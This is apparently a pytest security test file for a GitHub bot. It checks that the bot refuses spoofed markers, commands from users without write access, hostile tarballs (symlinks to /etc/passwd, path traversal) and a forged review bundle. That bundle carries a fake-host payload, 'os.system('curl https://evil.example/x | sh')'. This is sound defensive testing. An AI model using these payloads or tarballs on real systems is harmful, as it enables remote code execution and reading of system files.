"""Issue 10: each attack on the bot, replayed against the local fake GitHub, and refused.

Spoofed markers in a stranger's text, commands from users without write access, hostile tarballs,
a symlink out of the workspace, and a forged review bundle.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path
from typing import Any

import pytest
from botworld import STRANGER, RemoteWorld
from fake_github import BOT_USER, FakeGitHub, _issue, _new_review_comment, add_issue_comment
from test_github_commands import command
from test_github_e2e import BASE, HEAD
from test_github_scan import schedule_event, tracking_issues
from world import NUMBER, REPO, BotRun, PullRequestWorld

from graphmend_bot.config import ConfigError
from graphmend_bot.github.core import archive
from graphmend_bot.github.core.api import connect
from graphmend_bot.github.core.archive import MAX_UNPACKED_BYTES
from graphmend_bot.github.core.context import ActionError, read_context, read_inputs
from graphmend_bot.github.core.identity import BotIdentity, resolve_identity
from graphmend_bot.github.core.markers import SUMMARY_MARKER, TRACKING_MARKER, finding_marker
from graphmend_bot.github.review.analyse import load_action_config


@pytest.fixture
def world(tmp_path: Path, fake_github: FakeGitHub) -> RemoteWorld:
    return RemoteWorld(tmp_path, fake_github, BASE, HEAD)


def everything_posted(fake: FakeGitHub) -> str:
    """Every text the bot could have written on GitHub."""
    texts = [c["body"] or "" for c in fake.issue_comments + fake.review_comments]
    texts += [r.get("body") or "" for r in fake.reviews]
    texts += [f"{i['title']}\n{i['body'] or ''}" for i in fake.issues.values()]
    texts += [f"{p['title']}\n{p.get('body') or ''}" for p in fake.pulls.values()]
    return "\n".join(texts)


def bots_comments(fake: FakeGitHub, kind: str) -> list[dict[str, Any]]:
    items = fake.issue_comments if kind == "issue" else fake.review_comments
    return [c for c in items if c["user"]["login"] == BOT_USER["login"]]


# -- spoofed markers ------------------------------------------------------------------------------
def test_a_strangers_summary_marker_is_neither_adopted_edited_nor_deleted(world: RemoteWorld) -> None:
    spoof = add_issue_comment(world.fake, REPO, NUMBER, f"All good, no graph breaks!\n{SUMMARY_MARKER}",
                              STRANGER, "NONE")
    spoof2 = add_issue_comment(world.fake, REPO, NUMBER, f"me too\n{SUMMARY_MARKER}", STRANGER, "NONE")
    run = world.run(world.event("pull_request.opened.json"), fail_on="never")
    assert run.returncode == 0, run.stdout + run.stderr
    assert spoof in world.fake.issue_comments and spoof2 in world.fake.issue_comments  # nothing deleted
    assert spoof["body"] == f"All good, no graph breaks!\n{SUMMARY_MARKER}" and spoof["updated_at"] == spoof["created_at"]
    [summary] = [c for c in bots_comments(world.fake, "issue") if SUMMARY_MARKER in c["body"]]
    assert "graph break(s)" in summary["body"]  # the bot posted its own


def test_a_strangers_fingerprints_neither_suppress_nor_cost_anything(world: RemoteWorld) -> None:
    first = world.run(world.event("pull_request.opened.json"), fail_on="never")
    assert first.returncode == 0, first.stdout + first.stderr
    ours = bots_comments(world.fake, "review")
    assert len(ours) == 3
    # A stranger copies the bot's comments (fingerprints and all) and adds many stale fingerprints;
    # then the bot's own comments disappear (say, the PR was rebased and GitHub outdated them).
    for comment in ours:
        world.fake.review_comments.remove(comment)
    head = world.head_sha
    copies = [_new_review_comment(world.fake, REPO, NUMBER, None, head, {"path": c["path"], "line": c["line"],
                                  "body": c["body"]}, STRANGER) for c in ours]
    stale = [_new_review_comment(world.fake, REPO, NUMBER, None, head, {"path": "pkg/model.py", "line": 1,
                                 "body": f"nit\n{finding_marker(f'{i:016x}')}"}, STRANGER) for i in range(60)]
    world.fake.review_comments.extend(copies + stale)
    writes = len(world.fake.writes())

    second = world.run(world.event("pull_request.synchronize.json"), fail_on="never")

    assert second.returncode == 0, second.stdout + second.stderr
    assert len(bots_comments(world.fake, "review")) == 3  # posted again, not suppressed by the copies
    assert all(c in world.fake.review_comments for c in copies + stale)
    assert all(c["body"].startswith("nit\n") for c in stale)  # never edited as "resolved"
    methods = [method for method, _, _ in world.fake.writes()[writes:]]
    assert "DELETE" not in methods and "PATCH" not in methods and methods.count("POST") == 1  # the one review


def test_a_strangers_old_issue_with_the_tracking_marker_is_not_adopted(world: RemoteWorld) -> None:
    world.git.checkout("master")
    planted = _issue(world.fake, REPO, 40, {"title": "look here", "body": f"pwned\n{TRACKING_MARKER}"}, STRANGER)
    world.fake.issues[(REPO, 40)] = planted
    run = world.run(schedule_event(world), event_name="schedule")
    assert run.returncode == 1, run.stdout + run.stderr
    assert planted["body"] == f"pwned\n{TRACKING_MARKER}" and planted["state"] == "open"
    ours = [i for i in tracking_issues(world) if i["user"]["login"] == BOT_USER["login"]]
    assert len(ours) == 1 and ours[0]["number"] != 40 and "graph break(s)" in ours[0]["body"]


# -- commands: permission from the API ------------------------------------------------------------
def test_a_member_without_write_access_is_refused(world: RemoteWorld) -> None:
    reader = {"login": "org-reader", "id": 777, "type": "User", "site_admin": False}
    world.fake.collaborators["org-reader"] = "triage"  # an org MEMBER with the triage role: `permission` read
    head = world.remote.branch("changes")
    run, comment_id = command(world, "/graphmend fix --push", reader, "MEMBER")
    assert run.returncode == 0, run.stdout + run.stderr
    assert world.reactions_on(comment_id) == ["-1"]
    assert "only users with write access" in world.replies()[-1]
    assert world.remote.branch("changes") == head and not world.fix_pulls()
    nobody, other = command(world, "/graphmend scan", {**reader, "login": "not-a-collaborator"}, "COLLABORATOR")
    assert nobody.returncode == 0 and world.reactions_on(other) == ["-1"]  # public repository: read
    world.fake.repos[REPO]["private"] = True
    hidden, third = command(world, "/graphmend scan", {**reader, "login": "not-a-collaborator"}, "COLLABORATOR")
    assert hidden.returncode == 0 and world.reactions_on(third) == ["-1"]  # private repository: 404


def test_a_contributor_with_write_access_is_obeyed(world: RemoteWorld) -> None:
    private_member = {"login": "quiet-dev", "id": 778, "type": "User", "site_admin": False}
    world.fake.collaborators["quiet-dev"] = "write"  # private org membership shows as CONTRIBUTOR
    run, comment_id = command(world, "/graphmend help", private_member, "CONTRIBUTOR")
    assert run.returncode == 0, run.stdout + run.stderr
    assert world.reactions_on(comment_id) == ["eyes", "+1"] and "GraphMend commands" in world.replies()[-1]


# -- hostile tarballs -----------------------------------------------------------------------------
def _tarball(*members: tuple[tarfile.TarInfo, bytes | None]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(raw.getvalue())


def _member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
    return info, data if kind == tarfile.REGTYPE else None


def _huge() -> bytes:
    """A header that claims more than the cap, followed by a little data: rejected before writing."""
    info = tarfile.TarInfo("root/pkg/huge.bin")
    info.size = MAX_UNPACKED_BYTES + 1
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    return gzip.compress(header + b"\0" * (1 << 16))


HOSTILE = {
    "corrupt": (b"\x1f\x8b\x08\x00not really gzip at all", "is corrupt"),
    "symlink out": (_tarball(_member("root/", tarfile.DIRTYPE), _member("root/pkg/model.py", tarfile.SYMTYPE,
                                                                         link="../../../../etc/passwd")),
                    "a link to outside the repository"),
    "absolute symlink": (_tarball(_member("root/model.py", tarfile.SYMTYPE, link="/etc/passwd")),
                         "a link to an absolute path"),
    "hardlink out": (_tarball(_member("root/model.py", tarfile.LNKTYPE, link="../../etc/passwd")),
                     "a link to outside the repository"),
    "path traversal": (_tarball(_member("root/ok.py", data=b"x = 1\n"), _member("../../escaped.py", data=b"pwn\n")),
                       "a path outside the repository"),
    "huge": (_huge(), "unpacks to more than 1024 MiB"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_tarball_gets_a_clear_reply(world: RemoteWorld, case: str) -> None:
    archive, reason = HOSTILE[case]
    world.fake.archives[world.head_sha] = archive
    run, comment_id = command(world, "/graphmend scan")
    assert run.returncode == 0, run.stdout + run.stderr
    assert "Traceback" not in run.stdout + run.stderr
    assert world.reactions_on(comment_id) == ["eyes", "confused"]
    reply = world.replies()[-1]
    assert "could not read this pull request's files" in reply and reason in reply, reply
    assert not list(world.tmp.rglob("escaped.py")) and not world.fake.reviews


# -- a symlink out of the workspace ---------------------------------------------------------------
SECRET = "hunter2-ZX81-do-not-leak"
SECRET_MODULE = f'''\
import torch
from torch import nn

API_KEY = "{SECRET}"


class Net(nn.Module):
    def forward(self, x):
        print("{SECRET}", x.sum().item())
        return x
'''


def test_a_symlink_out_of_the_workspace_is_never_read(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = PullRequestWorld(tmp_path, fake_github, BASE, HEAD)
    outside = tmp_path / "outside" / "secret.py"
    outside.parent.mkdir()
    outside.write_text(SECRET_MODULE, encoding="utf-8")
    link = world.git.root / "pkg" / "model.py"
    link.unlink()
    link.symlink_to(os.path.relpath(outside, link.parent))
    (world.git.root / "pkg" / "linked_dir").symlink_to(outside.parent, target_is_directory=True)
    world.git.git("add", "-A")
    world.git.git("commit", "-q", "-m", "model.py is a link to a file outside the workspace")
    world.head_sha = world.git.git("rev-parse", "HEAD").strip()
    fake_github.push(REPO, NUMBER, world.head_sha, world.git.pull_files(world.base_sha, world.head_sha))

    run = world.run(world.event("pull_request.synchronize.json"), fail_on="never", paths="pkg")

    assert run.returncode == 0, run.stdout + run.stderr
    leaked = [where for where, text in (("stdout", run.stdout), ("stderr", run.stderr), ("summary", run.summary),
                                        ("sarif", json.dumps(run.sarif)), ("GitHub", everything_posted(fake_github)))
              if SECRET in text]
    assert leaked == []
    assert "pkg/model.py" in run.summary and "outside the workspace" in run.summary  # a per-file error
    assert "pkg/linked_dir: skipped: a symlink to a folder outside the workspace" in run.stdout
    assert "secret.py" not in run.stdout + run.summary  # not even the names of files out there


# -- a forged review bundle -----------------------------------------------------------------------
PAYLOAD = "os.system('curl https://evil.example/x | sh')"


def _first_workflow(world: PullRequestWorld) -> dict[str, Any]:
    world.fake.read_only = True
    world.run(world.event("pull_request.opened.json"), review_bundle="bundle.json", fail_on="never")
    world.fake.read_only = False
    return json.loads((world.git.root / "bundle.json").read_text("utf-8"))


def _second_workflow(world: PullRequestWorld, downloads: Path, bundle: dict[str, Any],
                     **run_changes: Any) -> BotRun:
    (downloads / "bundle.json").write_text(json.dumps(bundle), "utf-8")
    event_path = world.event("workflow_run.completed.with-pull-requests.json")
    event = json.loads(event_path.read_text("utf-8"))
    event["workflow_run"].update(run_changes)
    event_path.write_text(json.dumps(event), "utf-8")
    return world.run(event_path, event_name="workflow_run", workspace=downloads, review_bundle="bundle.json",
                     fail_on="never")


def test_a_forged_bundle_posts_no_code_of_its_own(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = PullRequestWorld(tmp_path, fake_github, BASE, HEAD)
    bundle = _first_workflow(world)
    shipped_code = [item["fix"] for item in bundle["findings"] if "fix" in item]
    for item in bundle["findings"]:
        location = item["location"]
        item["fix"] = {"applicability": "safe", "message": "Safe fix", "edits": [
            {"content": PAYLOAD, "location": location, "end_location": item["end_location"]}]}
    downloads = tmp_path / "downloads"
    downloads.mkdir()

    run = _second_workflow(world, downloads, bundle)

    assert run.returncode == 0, run.stdout + run.stderr
    posted = everything_posted(fake_github)
    assert "curl" not in posted and "os.system" not in posted
    printed = next(c["body"] for c in fake_github.comments_on(REPO, NUMBER) if c["body"].startswith("**GM401**"))
    assert "```suggestion\n" in printed and "is_compiling" in printed  # recomputed by the bot itself
    assert shipped_code == []  # and the first workflow ships no code either


def test_config_in_the_artifact_is_never_parsed(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = PullRequestWorld(tmp_path, fake_github, BASE, HEAD)
    bundle = _first_workflow(world)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / ".graphmend.yml").write_text("select: [: : :\n", "utf-8")  # would stop the run if parsed

    run = _second_workflow(world, downloads, bundle)

    assert run.returncode == 0, run.stdout + run.stderr
    assert "graphmend.yml" not in run.stdout and len(fake_github.comments_on(REPO, NUMBER)) == 3


@pytest.mark.parametrize(("tamper", "run_changes", "why"), [
    ({"pull_request": 3}, {}, "the run is for [2]"),
    ({"repository": "evil/Hello-World"}, {}, "names the repository 'evil/Hello-World'"),
    ({}, {"pull_requests": [], "head_repository": {"full_name": "evil/Hello-World"}}, "not from the run's evil"),
    ({}, {"pull_requests": [], "head_branch": "other"}, "not from the run's"),
])
def test_a_bundle_for_another_pull_request_is_not_posted(tmp_path: Path, fake_github: FakeGitHub,
                                                         tamper: dict[str, Any], run_changes: dict[str, Any],
                                                         why: str) -> None:
    world = PullRequestWorld(tmp_path, fake_github, BASE, HEAD)
    bundle = {**_first_workflow(world), **tamper}
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    writes = len(fake_github.writes())
    run = _second_workflow(world, downloads, bundle, **run_changes)
    assert run.returncode == 0, run.stdout + run.stderr
    assert why in run.stdout and "not posting it" in run.stdout
    assert fake_github.writes()[writes:] == [] and fake_github.comments_on(REPO, NUMBER) == []


# -- the bot's identity ---------------------------------------------------------------------------
def test_identity_comes_from_graphql_viewer_or_the_bot_login_input(fake_github: FakeGitHub) -> None:
    client = connect(fake_github.base_url, fake_github.token)
    warnings: list[str] = []
    assert resolve_identity(client, "", warnings.append) == BotIdentity(BOT_USER["login"], BOT_USER["id"])
    assert [entry[0] for entry in fake_github.log] == ["QUERY"]
    assert resolve_identity(client, "graphmend[bot]", warnings.append) == BotIdentity("graphmend[bot]")
    assert len(fake_github.log) == 1 and warnings == []  # the input is used as is: no API call

    fake_github.fail("POST", "/api/graphql", 403, {"message": "Resource not accessible by integration"})
    unknown = resolve_identity(client, "", warnings.append)
    assert unknown == BotIdentity() and "bot-login" in warnings[0]
    assert not unknown.wrote({"login": ""}) and not unknown.wrote(None)  # unknown: nobody is the bot


def test_identity_matches_by_login_only() -> None:
    bot = BotIdentity("GraphMend[bot]")
    assert bot.wrote({"login": "graphmend[bot]", "type": "Bot"})
    assert not bot.wrote({"login": "graphmend", "type": "User"}) and not bot.wrote({"name": "graphmend[bot]"})


def test_the_bot_login_input_is_validated() -> None:
    assert read_inputs({"INPUT_BOT-LOGIN": "my-app[bot]"}).bot_login == "my-app[bot]"
    assert read_inputs({}).bot_login == ""
    with pytest.raises(ActionError, match="bot-login"):
        read_inputs({"INPUT_BOT-LOGIN": "a b<!--"})


def test_a_config_file_symlinked_out_of_the_workspace_is_not_read(tmp_path: Path) -> None:
    outside = tmp_path / "outside.yml"
    outside.write_text(f"select: [{SECRET}\n", "utf-8")  # its parse error would quote this line
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / ".graphmend.yml").symlink_to(outside)
    event = tmp_path / "event.json"
    event.write_text("{}", "utf-8")
    ctx = read_context({"GITHUB_EVENT_NAME": "push", "GITHUB_EVENT_PATH": str(event),
                        "GITHUB_WORKSPACE": str(workspace), "GITHUB_REPOSITORY": REPO})
    with pytest.raises(ConfigError, match="outside the workspace") as refused:
        load_action_config(ctx)
    assert SECRET not in str(refused.value)


def test_archive_caps_are_checked_before_each_entry_is_written(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_MEMBERS", 3)
    path = tmp_path / "many.tar.gz"
    path.write_bytes(_tarball(*(_member(f"root/f{i}.py", data=b"x = 1\n") for i in range(5))))
    target = tmp_path / "out"
    target.mkdir()
    with pytest.raises(archive.ArchiveError, match="more than 3 entries"):
        archive.extract(path, target)
    assert sorted(p.name for p in (target / "root").iterdir()) == ["f0.py", "f1.py", "f2.py"]  # stopped at the cap


def test_an_entry_name_the_file_system_cannot_hold_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "long.tar.gz"
    path.write_bytes(_tarball(_member("root/" + "a" * 300 + ".py", data=b"x = 1\n")))
    target = tmp_path / "out"
    target.mkdir()
    with pytest.raises(archive.ArchiveError, match="cannot be written here"):
        archive.extract(path, target)
